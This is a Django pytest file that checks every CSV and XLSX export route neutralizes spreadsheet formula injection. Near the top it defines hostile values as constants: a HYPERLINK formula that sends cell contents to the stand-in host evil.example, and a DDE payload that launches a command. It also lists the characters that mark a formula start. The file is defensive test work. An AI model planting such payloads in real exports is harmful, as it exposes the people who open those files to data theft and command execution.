"""Every CSV and XLSX route, downloaded with hostile names and comments: no cell may run as a formula."""

import csv
import datetime as dt
import io
import re

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django_scopes import scopes_disabled
from openpyxl import load_workbook

from worldclass.accounts.tests.world import build_role_world
from worldclass.certificates.domain import issue_certificates
from worldclass.certificates.tests.factories import site_certification
from worldclass.certification.domain.program import publish_registry_year
from worldclass.certification.domain.runs import run_program_year
from worldclass.certification.tests.factories import rollup_months
from worldclass.core.months import Month
from worldclass.directory.models import Person
from worldclass.operations.tests.factories import call_row, load_calls, set_plan
from worldclass.portal.tests.factories import rollups_for, survey_response

pytestmark = pytest.mark.django_db

HOSTILE_CSR = '=HYPERLINK("http://evil.example/?"&A1)'
HOSTILE_SITE = "+SUM(1,2)"
HOSTILE_COMMENT = "\t=cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?[0-9.,]+$")
JAN = dt.date(2015, 1, 1)


@pytest.fixture
def hostile():
    """The role world with a CSR whose code is a formula (as a calls file may carry it), a site named like a formula,
    a comment that starts with a tab and a formula, and the site certified (trophy, registry)."""
    world = build_role_world()
    set_plan("tor", expected_calls_per_csr=30, assumed_response_rate=1.0)
    started = dt.datetime(2026, 3, 2, 14, tzinfo=dt.UTC)
    load_calls([call_row(csr=HOSTILE_CSR, started=started)], now=started + dt.timedelta(minutes=30))
    with scopes_disabled():
        world.site.name = HOSTILE_SITE
        world.site.save()
        hostile_csr = Person.objects.get(code=HOSTILE_CSR)
        for obj, level in [(world.org, "organization"), (world.site, "site"), (hostile_csr, "csr")]:
            rollups_for(obj=obj, level=level, months=[JAN], eligible=40, ineligible=2, world_class=30)
        survey_response(csr=world.csr, comment=HOSTILE_COMMENT)
        issue_certificates(run=site_certification(world.site).first_run)
        # Five good months in 2013, run and published, put the site in that year's public registry.
        rollup_months(
            entity=world.site,
            level="site",
            start=Month(2013, 8),
            eligible=[300] * 5,
            meeting=[290] * 5,
            window_code="2-business-days",
        )
        run = run_program_year(year=2013, through=Month(2013, 12), actor="test")
        publish_registry_year(year=2013, actor="test")
    world.extra.update(month="2026-03", run=run.pk)
    return world


# (url name, path, format, hostile text the export must carry, neutralized)
EXPORTS = [
    ("portal:organizations", lambda w: "/dashboard/organizations/?edition=2015&format=csv", "csv", None),
    ("portal:organizations", lambda w: "/dashboard/organizations/?edition=2015&format=xlsx", "xlsx", None),
    ("portal:editions", lambda w: f"/dashboard/site/{w.site.id}/editions/?format=csv", "csv", None),
    ("portal:editions", lambda w: f"/dashboard/site/{w.site.id}/editions/?format=xlsx", "xlsx", None),
    *[
        (
            "portal:export",
            lambda w, t=table, f=fmt: f"/dashboard/site/{w.site.id}/export/{t}.{f}?edition=2015",
            fmt,
            text,
        )
        for table, text in [("months", None), ("leaderboard", HOSTILE_CSR)]
        for fmt in ("csv", "xlsx")
    ],
    *[
        (
            "portal:export",
            lambda w, f=fmt: f"/dashboard/supervisor/{w.supervisor.id}/export/members.{f}?edition=2015",
            fmt,
            HOSTILE_CSR,
        )
        for fmt in ("csv", "xlsx")
    ],
    *[
        ("portal:export", lambda w, f=fmt: f"/dashboard/csr/{w.csr.id}/export/comments.{f}", fmt, HOSTILE_COMMENT)
        for fmt in ("csv", "xlsx")
    ],
    ("portal:export", lambda w: f"/dashboard/organization/{w.org.id}/export/members.csv?edition=2015", "csv", None),
    ("certificates:trophies_csv", lambda w: "/certificates/trophies.csv", "csv", HOSTILE_SITE),
    ("registry:year_csv", lambda w: "/registry/2013.csv", "csv", HOSTILE_SITE),
    (
        "certification:run_changes_csv",
        lambda w: f"/certification/runs/{w.extra['run']}/changes.csv",
        "csv",
        HOSTILE_SITE,
    ),
    (
        "operations:site_export",
        lambda w: f"/operations/sites/{w.site.id}/export.csv?month={w.extra['month']}",
        "csv",
        HOSTILE_CSR,
    ),
]


def _download(world, path: str):
    client = Client()
    client.force_login(world.users["certifier_staff"])
    response = client.get(path)
    assert (response.status_code, response["Cache-Control"]) == (200, "no-store")
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def _unsafe_csv_cells(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.match(c)]


def _unsafe_xlsx_cells(sheet) -> list:
    cells = [cell for row in sheet.iter_rows() for cell in row]
    return [
        c.coordinate
        for c in cells
        if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS) and not c.quotePrefix)
    ]


@pytest.mark.parametrize(("name", "path", "fmt", "text"), EXPORTS, ids=lambda v: v if isinstance(v, str) else "")
def test_export_holds_the_hostile_text_and_no_formula(hostile, name, path, fmt, text):
    body = _download(hostile, path(hostile))
    if fmt == "csv":
        cells = _csv_cells(body)
        carried = text is None or "'" + text in cells or any(text in c for c in cells)
        assert (_unsafe_csv_cells(cells), carried) == ([], True)
    else:
        sheet = load_workbook(io.BytesIO(body)).active
        values = [cell.value for row in sheet.iter_rows() for cell in row]
        carried = text is None or text in values
        assert (_unsafe_xlsx_cells(sheet), carried) == ([], True)


def _download_routes(resolver: URLResolver | None = None, namespace: str = "") -> set[str]:
    """Named routes that answer with a file: their pattern names csv/xlsx or 'export'."""
    names = set()
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            names |= _download_routes(pattern, inner)
        elif isinstance(pattern, URLPattern) and pattern.name and re.search(r"csv|xlsx|export", str(pattern.pattern)):
            names.add(namespace + pattern.name)
    return names


def test_every_download_route_is_exercised():
    assert sorted(_download_routes() - {name for name, *_ in EXPORTS}) == []
